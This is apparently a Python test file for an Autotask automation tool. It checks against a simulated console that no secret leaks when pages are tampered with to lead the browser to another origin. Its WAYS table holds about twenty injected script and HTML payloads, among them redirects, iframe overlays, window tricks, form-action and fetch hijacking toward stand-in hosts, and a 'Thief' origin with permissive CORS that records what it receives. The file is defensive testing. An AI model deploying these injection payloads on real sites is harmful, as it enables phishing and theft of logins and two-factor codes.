# Copyright (c) 2026 The msp.autotask contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A page that leads away: no way to another origin gets a secret there, fresh or resumed session alike.

Whatever is asked of another origin is answered by the simulator too, so its pages look the same there. Origins are told
apart by the host that was asked for; the browser's proxy is the simulator, so any host of plain http leads to it.
"""

from __future__ import annotations

import itertools
import time
import typing as t
from dataclasses import dataclass
from urllib.parse import unquote_plus, urlsplit

import pyotp
from autotask_simulator.fleet import DEFAULT_TOTP_SECRET
from flask import Response, request
from simulated_console import SECRET

from campaign.jobs import JOBS
from campaign.ledger import Ledger
from campaign.simulation import Simulation, Target

PART = "led away"
JOB = {job.name: job for job in JOBS}

ORIGINS = {
    "another host": "http://localhost:{port}",
    "another host, plain http": "http://console.example",
    "its zone, plain http": "http://ww5.autotask.net",
}
"""Where pages lead to. The first is as private as the console itself."""

NEXT = "/Mvc/Framework/Authentication.mvc/Authenticate/Next"
STOLEN = "/stolen"
"""Where another origin shows what it has copied."""


@dataclass(frozen=True)
class Stage:
    """A page of the console that leads away."""

    page: str
    job: str = "level"
    fresh: bool = True
    resumed: bool = True
    two_factor: bool = False


STAGES = {
    "the log-in": Stage("login_page", resumed=False, two_factor=True),
    "the page after the password": Stage("login_password", resumed=False, two_factor=True),
    "the page after the log-in": Stage("landing"),
    "the form of a level": Stage("edit_level"),
    "the form of a user": Stage("new_api_user", "user"),
}

Make = t.Callable[[str, str], str | Response]
"""Makes another page of the console's and an origin."""


def script(text: str) -> Make:
    return lambda page, origin: page.replace("</body>", f"<script>{text % {'origin': origin}}</script></body>")


def head(text: str) -> Make:
    return lambda page, origin: page.replace("<head>", f"<head>{text % {'origin': origin}}")


WHEN_USED = "addEventListener('focusin', () => { %s }, {once: true});"
"""As soon as something is typed."""

SEND = """
for (const button of document.querySelectorAll('[data-command]')) button.addEventListener('click', event => {
  event.stopImmediatePropagation();
  document.forms[0].requestSubmit(document.getElementById('by'));
}, true);"""
"""Whatever is pressed sends the form, with all that was typed under its name."""

FORM = """
const form = document.createElement('form'), by = document.createElement('button');
form.method = 'post';
form.append(...document.body.childNodes, by);
by.id = 'by';
by.style.display = 'none';
document.body.append(form);
form.querySelectorAll('input').forEach((box, number) => { box.name = box.name || 'box' + number; });
"""

WAYS: dict[str, Make] = {
    "a redirect": lambda _page, origin: Response(status=302, headers={"Location": origin + STOLEN}),
    "a meta refresh": head(f'<meta http-equiv="refresh" content="0; url=%(origin)s{STOLEN}">'),
    "a meta refresh, later": head(f'<meta http-equiv="refresh" content="1; url=%(origin)s{STOLEN}">'),
    "a script": script(f"location.href = '%(origin)s{STOLEN}'"),
    "a script, when it is used": script(WHEN_USED % f"location.href = '%(origin)s{STOLEN}'"),
    "a frame": script(
        f"document.body.innerHTML = `<iframe src='%(origin)s{STOLEN}' style='width: 99vw; height: 95vh'></iframe>`"
    ),
    "a frame over the page": script(
        f"setTimeout(() => document.body.insertAdjacentHTML('beforeend', `<iframe src='%(origin)s{STOLEN}' "
        "style='position: fixed; inset: 0; width: 99vw; height: 95vh; z-index: 99'></iframe>`), 300)"
    ),
    "a window": script(f"open('%(origin)s{STOLEN}'); document.body.innerHTML = ''"),
    "a window in its place": script(f"open('%(origin)s{STOLEN}'); close()"),
    "another window's script": script(
        "const w = open('about:blank'); "
        f"w.document.write('<script>opener.location = \"%(origin)s{STOLEN}\"<' + '/script>')"
    ),
    "a form's address": script(FORM + "form.action = '%(origin)s/taken';" + SEND),
    "a button's address": script(FORM + "by.formAction = '%(origin)s/taken';" + SEND),
    "a form's address, once it is sent": script(
        FORM + "form.addEventListener('submit', () => { form.action = '%(origin)s/taken'; });" + SEND
    ),
    "a form in a window": script(FORM + "form.action = '%(origin)s/taken'; form.target = '_blank';" + SEND),
    "a redirect that sends the form again": script(FORM + "form.action = '/sent-again?to=%(origin)s';" + SEND),
    "a redirect that sends a call again": script(
        "const usual = fetch; fetch = (_address, given) => "
        "usual('/sent-again?to=%(origin)s', {...given, headers: {'Content-Type': 'text/plain'}})"
    ),
    "a base": head('<base href="%(origin)s/">'),
    "a trick with the history": script(
        f"history.pushState({{}}, '', location.href); location.href = '%(origin)s{STOLEN}?address=' + "
        "encodeURIComponent(location.pathname)"
    ),
    "there and back": script(
        f"if (!sessionStorage.been) {{ sessionStorage.been = 1; location.href = '%(origin)s{STOLEN}?back=1' }}"
    ),
}

NAMES = {
    "single_sign_on",
    "login_interrupted",
    "led_away",
    "insecure_url",
    "login_not_recognised",
    "session_ended",
}
"""What may become of a run that was led away, or else it ends well."""

HIDDEN = {"not_seen", "not_at_rest"}
"""What else, where another host's frame hides the page that should be there."""

FAILED_CALLS = {"save_refused", "not_seen"}
"""What else, where the page stays and only its calls are answered by another host: what it says or leaves out then."""


class Thief:
    """The other origin: it copies a page of the console, and notes what it is asked."""

    def __init__(self, simulation: Simulation, stage: Stage, way: Make, origin: str) -> None:
        self.reached = 0
        self.heard: list[str] = []
        self._stage, self._way = stage, way
        self._home = urlsplit(simulation.url)
        self._origin = origin.format(port=self._home.port)
        self._copy = ""

    def tamper(self, name: str, response: Response) -> Response:
        """Answer otherwise where the page of this stage is asked for, and where the other origin is."""
        if request.host != self._home.netloc:
            return self._answer(response)
        if request.path == "/sent-again":
            return Response(status=307, headers={"Location": f"{request.args['to']}/taken"})
        if request.path == NEXT:
            return self._led(CODE_PAGE)
        if name == self._stage.page and response.status_code == 200 and not response.direct_passthrough:
            self.reached += 1
            if response.is_json:
                # What follows the password is another document here, not a part of this one.
                return Response(f'{{"location": "{NEXT}"}}', content_type="application/json")
            return self._led(response.get_data(as_text=True))
        return response

    def _led(self, page: str) -> Response:
        self._copy = page
        made = self._way(page, self._origin)
        return Response(made, content_type="text/html") if isinstance(made, str) else made

    def _answer(self, response: Response) -> Response:
        self.heard.append(unquote_plus(request.full_path + request.get_data(as_text=True)))
        allowed = {
            "Access-Control-Allow-Origin": request.headers.get("Origin", "*"),
            "Access-Control-Allow-Credentials": "true",
            "Access-Control-Allow-Headers": "content-type, x-requested-with, x-request-id",
        }
        if request.method == "OPTIONS":
            return Response(status=204, headers=allowed)
        if request.path == STOLEN:
            return Response(self._copied(), content_type="text/html", headers=allowed)
        response.headers.update(allowed)
        return response

    def _copied(self) -> str:
        if "back" in request.args:
            return "<script>history.back()</script>"
        if address := request.args.get("address"):
            return self._copy.replace("<head>", f"<head><script>history.replaceState({{}}, '', '{address}')</script>")
        return self._copy


CODE_PAGE = """<!doctype html><head></head><title>Autotask</title><body><h2>Two-Factor Authentication</h2>
<form method=post action=/code onsubmit="return true"><label>Code <input name=code></label>
<button data-command=code>Verify</button></form></body>"""


def cases() -> list[tuple[str, str, str, str]]:
    """Way, stage, session and origin."""
    sessions = [
        (stage, session) for stage, told in STAGES.items() for session in ("fresh", "resumed") if getattr(told, session)
    ]
    return [
        (way, stage, session, origin) for way, (stage, session), origin in itertools.product(WAYS, sessions, ORIGINS)
    ]


def codes() -> list[str]:
    """All codes that may have been typed in the last minutes."""
    totp, now = pyotp.TOTP(DEFAULT_TOTP_SECRET), int(time.time())
    return [totp.at(moment) for moment in range(now - 300, now + 90, 30)]


def test_no_way_leads_a_secret_away(simulation: Simulation, ledger: Ledger) -> None:
    for way, stage, session, origin in ledger.chosen(PART, "a page that leads away", cases(), sample=1):
        with ledger.case(PART, f"{stage}, {session} session", f"{way} to {origin}") as case:
            job, told = JOB[STAGES[stage].job], STAGES[stage]
            target = simulation.tenant(two_factor=told.two_factor)
            if session == "resumed":
                assert "failure" not in target.run("autotask_security_level_info")
            thief = Thief(simulation, told, WAYS[way], ORIGINS[origin])
            simulation.tamper = thief.tamper
            options = {"proxy": simulation.url.rstrip("/"), "timeout": 100, "secret": SECRET}
            if told.job == "level":
                del options["secret"]
            result = Target.result(target.start(job.module, **{**job.options(target), **options}))
            simulation.tamper = None
            case.named(result)
            reason = result.get("failure", {}).get("reason")
            secrets = [SECRET, target.connection["console_password"], DEFAULT_TOTP_SECRET, target.user_name, *codes()]
            assert not [word for word in secrets for heard in thief.heard if word in heard], thief.heard
            others = HIDDEN if "frame" in way else FAILED_CALLS if "call" in way else set[str]()
            assert reason is None or reason in NAMES | others, result["msg"]
            assert thief.reached, f"the page was not asked for: {result.get('msg')}"
            case.traits = [f"asked {len(thief.heard)} times"]
